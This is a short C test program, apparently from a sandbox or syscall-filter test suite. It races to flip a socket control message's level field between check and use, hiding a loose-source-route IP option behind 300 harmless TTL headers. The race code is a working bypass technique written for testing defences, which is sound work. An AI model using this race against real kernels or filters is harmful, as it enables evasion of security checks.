// SPDX-License-Identifier: Apache-2.0
//
// F13, F2: as F13_cmsg_flip, behind more control data than lies in a slot of the window.
#include "cfgh.h"

int main(void)
{
	struct sockaddr_in a = loopback("ATTACK_OK");
	struct iovec v = {"x", 1};
	static struct {
		struct {
			struct cmsghdr h;
			char room[CMSG_SPACE(sizeof(int)) - sizeof(struct cmsghdr)];
		} harmless[300];
		struct cmsghdr h;
		char room[CMSG_SPACE(8) - sizeof(struct cmsghdr)];
	} c = {.h = {.cmsg_level = IPPROTO_IP, .cmsg_type = IP_RETOPTS, .cmsg_len = CMSG_LEN(8)}};
	for (int i = 0; i < 300; i++) {
		c.harmless[i].h = (struct cmsghdr){.cmsg_level = IPPROTO_IP, .cmsg_type = IP_TTL, .cmsg_len = CMSG_LEN(sizeof(int))};
		*(int *)CMSG_DATA(&c.harmless[i].h) = 64;
	}
	struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	must(s, "socket");
	if (sendmsg(s, &m, 0) != 1)
		finish("SETUP", "without a source route: %s", strerror(errno));
	memcpy(CMSG_DATA(&c.h), "\x83\x07\x04\x7f\xff\xff\xff", 8); // LSRR, 127.255.255.255
	m.msg_control = &c;
	m.msg_controllen = sizeof c;
	flip((char *)&c.h.cmsg_level, IPPROTO_IP, SOL_SOCKET);
	while (race_more())
		race_won(sendmsg(s, &m, 0) < 0 && errno == EACCES);
	race_end();
}
